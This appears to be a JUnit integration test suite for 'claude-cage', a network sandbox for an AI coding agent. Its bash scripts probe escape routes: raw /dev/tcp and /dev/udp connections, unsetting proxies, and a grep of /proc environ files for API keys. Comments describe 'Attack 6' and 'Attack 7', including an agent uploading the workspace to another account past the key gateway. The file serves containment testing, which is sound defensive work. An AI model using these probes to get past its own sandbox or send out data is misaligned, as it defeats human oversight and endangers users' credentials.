package dev.claudecage.it;

import dev.claudecage.net.AuditEvent;
import dev.claudecage.net.AuditLog;
import dev.claudecage.host.Netns;
import dev.claudecage.testing.TestNetwork;
import dev.claudecage.testing.TlsClientHello;
import dev.claudecage.testing.mockapi.MockAnthropicApi;
import dev.claudecage.testing.mockapi.Script;
import dev.claudecage.testing.mockapi.Turn;
import dev.claudecage.verify.Canary;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.BufferedReader;
import java.io.InputStreamReader;
import java.net.InetSocketAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;

import static dev.claudecage.it.CageHarness.ROOTFS;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Filtered networking end to end, on the test's own small internet: a mock Anthropic API and a
 * canary, each on a test host of its own. From inside real cages: the API is reachable only
 * through the gateway, which alone holds the real key; every other way to the canary is
 * blocked (asserted on the canary's own record) and audited; with the canary allowed, the same
 * request reaches it (the positive control).
 */
class FilteredNetworkIT {

    private static final String REAL_KEY = "sk-ant-api03-realkey-" + Long.toHexString(System.nanoTime());
    private static final int API_PORT = 8443;

    private static TestNetwork internet;
    private static TestNetwork.TestHost apiHost;
    private static TestNetwork.TestHost canaryHost;
    private static MockAnthropicApi api;
    private static Canary canary;

    @TempDir
    Path dir;

    @BeforeAll
    static void buildTheInternet() throws Exception {
        CageHarness.requireRootAndRootfs();
        internet = new TestNetwork("fnet");
        apiHost = internet.addHost("api");
        canaryHost = internet.addHost("canary");
        api = Netns.call(apiHost.namespace(), () -> MockAnthropicApi.builder()
                .bind(new InetSocketAddress(apiHost.address4(), API_PORT))
                .script(Script.of(new Turn.Text("hello from the mock"))).start());
        canary = Netns.call(canaryHost.namespace(), () -> Canary.open(
                List.of(canaryHost.address4(), canaryHost.address6()), List.of(80, 443, API_PORT), List.of(53)));
    }

    @AfterAll
    static void tearDownTheInternet() throws Exception {
        if (api != null) {
            api.close();
        }
        if (canary != null) {
            canary.close();
        }
        if (internet != null) {
            internet.close();
        }
    }

    @BeforeEach
    void clean() throws Exception {
        canary.takeHits();
        assertEquals(List.of(), CageHarness.leftovers());
    }

    @AfterEach
    void nothingLeftBehind() throws Exception {
        assertEquals(List.of(), CageHarness.leftovers(), "the cage left something behind");
        assertEquals(List.of(), NetworkLeftovers.listExcept("fnet"),
                "the cage left network state behind");
    }

    private List<String> filtered(Path audit, List<String> extra, String script) {
        List<String> args = new ArrayList<>(List.of("run", "--rootfs", ROOTFS.toString(), "--network", "filtered",
                "--api-upstream", "http://" + apiHost.address4() + ":" + API_PORT,
                "--resolve", "canary.test=" + canaryHost.address4(), "--resolve", "canary.test=" + canaryHost.address6(),
                "--audit-log", audit.toString()));
        args.addAll(extra);
        args.addAll(List.of("--", "bash", "-c", script));
        return args;
    }

    private CageHarness.Result runFiltered(Path audit, List<String> extra, String script) {
        CageHarness.Result result = CageHarness.launch(filtered(audit, extra, script), "",
                Map.of("ANTHROPIC_API_KEY", REAL_KEY), Duration.ofMinutes(2));
        System.out.println(result);
        return result;
    }

    /** An HTTP request over bash's /dev/tcp; prints the status line. */
    private static String http(String hostVariable, String port, String request) {
        return "exec 3<>/dev/tcp/" + hostVariable + "/" + port + " && printf '" + request + "' >&3 && timeout 10 head -1 <&3";
    }

    private static final String GATEWAY = "${ANTHROPIC_BASE_URL#http://}";

    @Test
    void theGatewayAddsTheRealKeyAndTheCageNeverHoldsIt() throws Exception {
        Path audit = dir.resolve("audit.jsonl");
        String body = "{\"model\":\"claude-x\",\"max_tokens\":16,\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}]}";
        String script = "gw=" + GATEWAY + "; host=${gw%:*}; port=${gw##*:}\n"
                + "exec 3<>/dev/tcp/$host/$port\n"
                + "printf 'POST /v1/messages HTTP/1.1\\r\\nHost: api\\r\\nx-api-key: %s\\r\\ncontent-type: application/json\\r\\n"
                + "anthropic-version: 2023-06-01\\r\\ncontent-length: " + body.length() + "\\r\\nConnection: close\\r\\n\\r\\n%s' "
                + "\"$ANTHROPIC_API_KEY\" '" + body + "' >&3\n"
                + "timeout 10 cat <&3\n"
                + "echo; echo \"placeholder=$ANTHROPIC_API_KEY\"\n"
                + "grep -rl 'sk-ant-api03-' /proc/[0-9]*/environ /etc /home /tmp /run 2>/dev/null | sed 's/^/FOUND /'\n"
                + "exit 0";
        CageHarness.Result result = runFiltered(audit, List.of(), script);
        assertEquals(0, result.exitCode(), result.toString());
        assertTrue(result.stdout().startsWith("HTTP/1.1 200"), result.stdout());
        assertTrue(result.stdout().contains("\"type\":\"message\""), result.stdout());
        assertTrue(result.stdout().contains("placeholder=sk-ant-cage-"), result.stdout());
        assertFalse(result.stdout().contains(REAL_KEY), "the real key reached the cage");
        assertFalse(result.stdout().contains("FOUND "), "the real key is readable in the cage");
        assertTrue(api.keysSeen().contains(REAL_KEY), "the mock must see the real key: " + api.keysSeen());
        assertFalse(api.keysSeen().stream().anyMatch(key -> key.startsWith("sk-ant-cage-")),
                "the placeholder leaked upstream");
        assertTrue(AuditLog.read(audit).stream().anyMatch(event -> event.source().equals("gateway")
                && event.decision().equals(AuditEvent.ALLOWED)), Files.readString(audit));
        assertFalse(Files.readString(audit).contains(REAL_KEY), "the real key is in the audit log");
    }

    @Test
    void theRealKeyIsNotInTheBundleWhileTheCageRuns() throws Exception {
        Process launcher = CageHarness.start(filtered(dir.resolve("audit.jsonl"), List.of(),
                "echo started; exec sleep 60"), Map.of("ANTHROPIC_API_KEY", REAL_KEY));
        try {
            var stdout = new BufferedReader(new InputStreamReader(launcher.getInputStream()));
            assertEquals("started", stdout.readLine());
            List<Path> configs;
            try (Stream<Path> files = Files.find(Path.of("/run/claude-cage"), 6,
                    (path, attributes) -> path.getFileName().toString().equals("config.json"))) {
                configs = files.toList();
            }
            assertFalse(configs.isEmpty(), "no bundle found");
            for (Path config : configs) {
                String text = Files.readString(config);
                assertTrue(text.contains("sk-ant-cage-"), "the bundle carries the placeholder");
                assertFalse(text.contains(REAL_KEY), "the real key is in " + config);
            }
        } finally {
            launcher.destroy();
            assertTrue(launcher.waitFor(30, TimeUnit.SECONDS));
        }
    }

    @Test
    void everyWayToTheCanaryIsBlockedAndAudited() throws Exception {
        Path audit = dir.resolve("audit.jsonl");
        String proxy = "${HTTPS_PROXY#http://}";
        String script = "p=" + proxy + "; ph=${p%:*}; pp=${p##*:}\n"
                + http("$ph", "$pp", "CONNECT canary.test:443 HTTP/1.1\\r\\nHost: canary.test:443\\r\\n\\r\\n") + "\n"
                + http("$ph", "$pp", "GET http://canary.test/ HTTP/1.1\\r\\nHost: canary.test\\r\\n\\r\\n") + "\n"
                + http("$ph", "$pp", "CONNECT " + canaryHost.address4() + ":443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n") + "\n"
                + "(echo > /dev/tcp/" + canaryHost.address4() + "/80) 2>&1 | tail -1\n"
                + "(echo > /dev/tcp/" + canaryHost.address6() + "/443) 2>&1 | tail -1\n"
                + "(echo > /dev/tcp/" + canaryHost.address4() + "/" + API_PORT + ") 2>&1 | tail -1\n"
                + "(echo probe > /dev/udp/" + canaryHost.address4() + "/53) 2>&1 | tail -1\n"
                + "getent hosts canary.test || echo 'canary.test: no such name'\n"
                + "unset HTTPS_PROXY HTTP_PROXY https_proxy http_proxy\n"
                + "(echo > /dev/tcp/canary.test/443) 2>&1 | tail -1\n"
                + "exit 0";
        CageHarness.Result result = runFiltered(audit, List.of(), script);
        assertEquals(0, result.exitCode(), result.toString());
        Thread.sleep(500);
        assertEquals(List.of(), canary.takeHits(), "the canary was reached");
        assertEquals(3, result.stdout().lines().filter(line -> line.startsWith("HTTP/1.1 403")).count(), result.stdout());
        assertTrue(result.stdout().contains("canary.test: no such name"), result.stdout());
        List<AuditEvent> events = AuditLog.read(audit);
        assertTrue(events.stream().anyMatch(e -> e.source().equals("proxy") && "canary.test".equals(e.destination())
                && e.decision().equals(AuditEvent.DENIED)), events.toString());
        assertTrue(events.stream().anyMatch(e -> e.source().equals("firewall")
                && canaryHost.address4().equals(e.destination())), events.toString());
        assertTrue(events.stream().anyMatch(e -> e.source().equals("dns") && "canary.test".equals(e.destination())
                && e.decision().equals(AuditEvent.DENIED)), events.toString());
        // Learn mode proposes the entries that let these through (the next test shows canary.test:80 does),
        // and lists the canary's addresses as never to be suggested.
        CageHarness.Result suggested = CageHarness.launch(List.of("policy", "suggest", "--from", audit.toString()));
        assertEquals(0, suggested.exitCode(), suggested.toString());
        assertTrue(suggested.stdout().contains("\n  - canary.test  # ")
                && suggested.stdout().contains("\n  - canary.test:80  # "), suggested.stdout());
        assertTrue(suggested.stdout().contains("#   " + canaryHost.address4() + ":80  "), suggested.stdout());
        // The evidence trail: report tells it, its chain holds, and one edited line breaks it right after.
        CageHarness.Result told = CageHarness.launch(List.of("report", "--run", audit.toString()));
        assertEquals(0, told.exitCode(), told.toString());
        assertTrue(told.stdout().contains("chain: intact") && told.stdout().contains("canary.test:443  "), told.stdout());
        List<String> lines = new ArrayList<>(Files.readAllLines(audit));
        assertTrue(lines.size() > 3, lines.toString());
        String edited = lines.get(1).replace("\"time\":\"2", "\"time\":\"1");
        assertNotEquals(lines.get(1), edited);
        lines.set(1, edited);
        Files.write(audit, lines);
        CageHarness.Result checked = CageHarness.launch(List.of("report", "--check", "--run", audit.toString()));
        assertEquals(1, checked.exitCode(), checked.toString());
        assertTrue(checked.stdout().contains("broken at line 3: its previousSha256 is not that of line 2"),
                checked.stdout());
    }

    @Test
    void theSameRequestReachesTheCanaryWhenThePolicyAllowsIt() throws Exception {
        Path audit = dir.resolve("audit.jsonl");
        String script = "p=${HTTP_PROXY#http://}; ph=${p%:*}; pp=${p##*:}\n"
                + http("$ph", "$pp", "GET http://canary.test/ HTTP/1.1\\r\\nHost: canary.test\\r\\n\\r\\n") + "\nexit 0";
        CageHarness.Result result = runFiltered(audit, List.of("--allowed-host", "canary.test:80"), script);
        assertEquals(0, result.exitCode(), result.toString());
        Thread.sleep(300);
        assertFalse(canary.takeHits().isEmpty(), "positive control: the allowed request must reach the canary");
        assertTrue(AuditLog.read(audit).stream().anyMatch(e -> e.source().equals("proxy")
                && "canary.test".equals(e.destination()) && e.decision().equals(AuditEvent.ALLOWED)));
    }

    /** CONNECT NAME:443 through the cage's proxy; prints the status line. */
    private static String connectThroughTheProxy(String name) {
        return "p=${HTTPS_PROXY#http://}; ph=${p%:*}; pp=${p##*:}\n"
                + http("$ph", "$pp", "CONNECT " + name + ":443 HTTP/1.1\\r\\nHost: " + name + ":443\\r\\n\\r\\n") + "\nexit 0";
    }

    /**
     * preset:npm in allowed_hosts lets the cage reach the npm registry's name: pinned to the canary, the CONNECT
     * to registry.npmjs.org:443 reaches it. Control: with a preset that does not name it, the same request is
     * refused and the canary hears nothing.
     */
    @Test
    void aPresetsHostIsReachedUnderThePresetsName() throws Exception {
        Path audit = dir.resolve("audit.jsonl");
        List<String> pinned = List.of("--resolve", "registry.npmjs.org=" + canaryHost.address4());
        CageHarness.Result refused = runFiltered(audit, concat(pinned, "--allowed-host", "preset:pypi"),
                connectThroughTheProxy("registry.npmjs.org"));
        assertEquals(0, refused.exitCode(), refused.toString());
        assertTrue(refused.stdout().startsWith("HTTP/1.1 403"), refused.stdout());
        Thread.sleep(300);
        assertEquals(List.of(), canary.takeHits(), "control: preset:pypi does not name the npm registry");

        CageHarness.Result reached = runFiltered(audit, concat(pinned, "--allowed-host", "preset:npm"),
                connectThroughTheProxy("registry.npmjs.org"));
        assertEquals(0, reached.exitCode(), reached.toString());
        assertTrue(reached.stdout().startsWith("HTTP/1.1 200"), reached.stdout());
        Thread.sleep(300);
        assertFalse(canary.takeHits().isEmpty(), "the preset's host must reach the canary it is pinned to");
        assertTrue(AuditLog.read(audit).stream().anyMatch(e -> e.source().equals("proxy")
                && "registry.npmjs.org".equals(e.destination()) && e.decision().equals(AuditEvent.ALLOWED)));
    }

    /**
     * claude-cage init in a Node project writes the folder's section into the user's file (never into the folder);
     * run in that folder then uses it with no flag of its own: its preset:npm reaches the pinned registry and its
     * /workspace mount is the folder. Control: the same run from another folder gets the user's allowlist alone.
     */
    @Test
    void runInAFolderThatInitSetUpUsesItsSection() throws Exception {
        Path project = Files.createDirectories(dir.resolve("project")).toRealPath();
        Files.writeString(project.resolve("package.json"), "{}\n");
        Path configHome = Files.createDirectories(dir.resolve("config"));
        Map<String, String> env = Map.of("XDG_CONFIG_HOME", configHome.toString(), "ANTHROPIC_API_KEY", REAL_KEY,
                "SUDO_UID", "4242", "SUDO_GID", "4242");
        CageHarness.Result init = CageHarness.launchIn(project, List.of("init", "--yes"), "", env, Duration.ofMinutes(1));
        assertEquals(0, init.exitCode(), init.toString());
        try (Stream<Path> files = Files.list(project)) {
            assertEquals(List.of(project.resolve("package.json")), files.toList(), "init wrote into the project");
        }
        assertTrue(Files.readString(configHome.resolve("claude-cage/config.yaml")).contains("preset:npm"));

        Path audit = dir.resolve("audit.jsonl");
        List<String> run = new ArrayList<>(filtered(audit, List.of("--resolve", "registry.npmjs.org=" + canaryHost.address4()),
                "ls /workspace; " + connectThroughTheProxy("registry.npmjs.org")));
        CageHarness.Result inTheProject = CageHarness.launchIn(project, run, "", env, Duration.ofMinutes(2));
        assertEquals(0, inTheProject.exitCode(), inTheProject.toString());
        assertEquals(List.of("package.json", "HTTP/1.1 200 Connection established"),
                inTheProject.stdout().lines().map(String::strip).toList(), inTheProject.toString());
        Thread.sleep(300);
        assertFalse(canary.takeHits().isEmpty(), "the project's preset must reach the canary");

        CageHarness.Result elsewhere = CageHarness.launchIn(dir, run, "", env, Duration.ofMinutes(2));
        assertEquals(0, elsewhere.exitCode(), elsewhere.toString());
        assertTrue(elsewhere.stdout().contains("HTTP/1.1 403"), "control: outside the project: " + elsewhere);
        Thread.sleep(300);
        assertEquals(List.of(), canary.takeHits(), "control: outside the project the canary hears nothing");
    }

    private static List<String> concat(List<String> first, String... more) {
        List<String> all = new ArrayList<>(first);
        all.addAll(List.of(more));
        return all;
    }

    /** Prints the cage's gateway addresses (IPv4, IPv6), waits for a line on stdin, then tries the gateway ports. */
    private static final String GATEWAY_PORTS_SCRIPT = "gw6=${NO_PROXY##*,}\n"
            + "gw4=${HTTPS_PROXY#http://}; gw4=${gw4%:*}\n"
            + "echo \"$gw4 $gw6\"; read go\n"
            + "for a in $gw4 $gw6; do for p in 8080 8081; do (exec 3<>/dev/tcp/$a/$p) 2>/dev/null"
            + " && echo REACHED $a:$p || echo closed $a:$p; done; done\nexit 0";

    /**
     * Attack 6: the firewalls opened the git gateway's port (and the API gateway's) whether or not it ran, so a
     * host service listening there was the cage's to reach. Without a key and without git_credentials neither
     * gateway runs; a canary of the test's listens on both ports of both gateway addresses and hears nothing.
     */
    @Test
    void attack6AGatewayPortWhoseServiceDoesNotRunIsClosed() throws Exception {
        Path audit = dir.resolve("audit.jsonl");
        Process launcher = CageHarness.start(filtered(audit, List.of(), GATEWAY_PORTS_SCRIPT),
                Map.of("ANTHROPIC_API_KEY", ""));
        CageHarness.Result result;
        try {
            String[] gateway = new BufferedReader(new InputStreamReader(launcher.getInputStream())).readLine()
                    .split(" ");
            try (Canary hostService = Canary.open(List.of(gateway[0], gateway[1]), List.of(8080, 8081), List.of())) {
                result = CageHarness.waitFor(launcher, "go\n", Duration.ofMinutes(2));
                System.out.println(result);
                Thread.sleep(300);
                assertEquals(List.of(), hostService.takeHits(), "a service on an idle gateway port was reached");
            }
        } finally {
            launcher.destroy();
            assertTrue(launcher.waitFor(30, TimeUnit.SECONDS));
        }
        assertEquals(0, result.exitCode(), result.toString());
        assertEquals(4, result.stdout().lines().filter(line -> line.startsWith("closed ")).count(), result.stdout());
        assertFalse(result.stdout().contains("REACHED"), result.stdout());
        assertTrue(AuditLog.read(audit).stream().anyMatch(e -> e.source().equals("firewall")
                && Integer.valueOf(8081).equals(e.port())), Files.readString(audit));
    }

    /** The control for attack 6: with the key and a git credential both gateways run, and the same tries reach them. */
    @Test
    void attack6ControlWithTheirServicesRunningTheGatewayPortsAnswer() throws Exception {
        List<String> gitGateway = List.of("--allowed-host", "githost.test", "--git-credential",
                "githost.test=command:printf unused");
        CageHarness.Result result = CageHarness.launch(filtered(dir.resolve("audit.jsonl"), gitGateway,
                GATEWAY_PORTS_SCRIPT), "go\n", Map.of("ANTHROPIC_API_KEY", REAL_KEY), Duration.ofMinutes(2));
        System.out.println(result);
        assertEquals(0, result.exitCode(), result.toString());
        assertEquals(4, result.stdout().lines().filter(line -> line.startsWith("REACHED ")).count(), result.stdout());
    }

    /** Tries the API's host by every route the cage has: the explicit proxy, then, without it, by name on 80 and 443. */
    private static String apiRoutesScript() throws Exception {
        StringBuilder hello = new StringBuilder();
        for (byte b : TlsClientHello.of("api.anthropic.com")) {
            hello.append(String.format("\\x%02x", b & 0xff));
        }
        return "p=${HTTPS_PROXY#http://}; ph=${p%:*}; pp=${p##*:}\n"
                + http("$ph", "$pp", "CONNECT api.anthropic.com:443 HTTP/1.1\\r\\nHost: api.anthropic.com:443\\r\\n\\r\\n") + "\n"
                + http("$ph", "$pp", "CONNECT api.anthropic.com:" + API_PORT + " HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n") + "\n"
                + http("$ph", "$pp", "POST http://api.anthropic.com/v1/files HTTP/1.1\\r\\nHost: api.anthropic.com\\r\\n"
                        + "Content-Length: 9\\r\\n\\r\\nworkspace") + "\n"
                + "echo \"DNS $(getent ahostsv4 api.anthropic.com | head -1 | cut -d' ' -f1) $ph\"\n"
                + "unset HTTPS_PROXY HTTP_PROXY https_proxy http_proxy\n"
                + http("api.anthropic.com", "80", "POST /v1/files HTTP/1.1\\r\\nHost: api.anthropic.com\\r\\n"
                        + "Content-Length: 9\\r\\n\\r\\nworkspace") + "\n"
                + "exec 3<>/dev/tcp/api.anthropic.com/443 && printf '" + hello + "' >&3"
                + " && echo \"TLS$(timeout 10 head -c 7 <&3 | od -An -tu1 | tr -s ' ')\"\n"
                + "exit 0";
    }

    /**
     * Attack 7: with the API gateway holding the user's key, the proxy still let the cage reach api.anthropic.com,
     * where an agent with a key of its own could upload the workspace to another account. The name is allowed and
     * pinned to the test's canary, so every route that got through would reach it: none does, each refusal is
     * audited with the reason, and the name resolves to the gateway.
     */
    @Test
    void attack7TheAgentCannotReachAnthropicPastTheGateway() throws Exception {
        Path audit = dir.resolve("audit.jsonl");
        CageHarness.Result result = runFiltered(audit, apiPinnedToTheCanary(), apiRoutesScript());
        assertEquals(0, result.exitCode(), result.toString());
        Thread.sleep(500);
        assertEquals(List.of(), canary.takeHits(), "the API's stand-in was reached past the gateway");
        assertEquals(4, result.stdout().lines().filter(line -> line.startsWith("HTTP/1.1 403")).count(), result.stdout());
        assertTrue(result.stdout().contains("TLS 21 3 3 0 2 2 49"), "the TLS listener refuses by SNI: " + result.stdout());
        String dns = result.stdout().lines().filter(line -> line.startsWith("DNS ")).findFirst().orElseThrow();
        assertEquals(dns.split(" ")[2], dns.split(" ")[1], "api.anthropic.com resolves to the gateway: " + dns);
        List<AuditEvent> events = AuditLog.read(audit);
        String reason = "the API gateway holds your key: api.anthropic.com only through it";
        assertEquals(5, events.stream().filter(e -> e.source().equals("proxy") && e.decision().equals(AuditEvent.DENIED)
                && reason.equals(e.reason())).count(), events.toString());
        assertTrue(events.stream().anyMatch(e -> e.source().equals("dns") && "api.anthropic.com".equals(e.destination())
                && e.reason().contains(reason)), events.toString());
        assertFalse(result.stderr().contains("no API key (--api-key"), result.stderr());
    }

    /** The control for attack 7: without a key on the host no gateway runs, the same route is open, and run says so. */
    @Test
    void attack7ControlWithoutAKeyTheApiIsReachableAndRunWarns() throws Exception {
        Path audit = dir.resolve("audit.jsonl");
        CageHarness.Result result = CageHarness.launch(filtered(audit, apiPinnedToTheCanary(), apiRoutesScript()), "",
                Map.of("ANTHROPIC_API_KEY", ""), Duration.ofMinutes(2));
        System.out.println(result);
        assertEquals(0, result.exitCode(), result.toString());
        Thread.sleep(500);
        assertFalse(canary.takeHits().isEmpty(), "control: without the gateway the API's stand-in is reached");
        assertTrue(result.stdout().contains("HTTP/1.1 200"), result.stdout());
        assertEquals(1, result.stderr().lines().filter(line -> line.contains("warning: no API key (--api-key")).count(),
                result.stderr());
    }

    private List<String> apiPinnedToTheCanary() {
        return List.of("--resolve", "api.anthropic.com=" + canaryHost.address4(),
                "--allowed-host", "api.anthropic.com", "--allowed-host", "api.anthropic.com:80",
                "--allowed-host", "api.anthropic.com:" + API_PORT);
    }

    @Test
    void aCageCannotReachAnotherCagesServices() throws Exception {
        Process first = CageHarness.start(filtered(dir.resolve("first.jsonl"), List.of(),
                "echo \"$HTTPS_PROXY $ANTHROPIC_BASE_URL\"; exec sleep 60"), Map.of("ANTHROPIC_API_KEY", REAL_KEY));
        try {
            String[] urls = new BufferedReader(new InputStreamReader(first.getInputStream())).readLine().split(" ");
            String script = "for target in " + urls[0].replace("http://", "") + " " + urls[1].replace("http://", "")
                    + "; do (echo > /dev/tcp/${target%:*}/${target##*:}) 2>/dev/null && echo REACHED $target"
                    + " || echo blocked $target; done; exit 0";
            CageHarness.Result second = runFiltered(dir.resolve("second.jsonl"), List.of(), script);
            assertEquals(0, second.exitCode(), second.toString());
            assertFalse(second.stdout().contains("REACHED"), second.stdout());
            assertEquals(2, second.stdout().lines().filter(line -> line.startsWith("blocked")).count(), second.stdout());
        } finally {
            first.destroy();
            assertTrue(first.waitFor(30, TimeUnit.SECONDS));
        }
    }
}
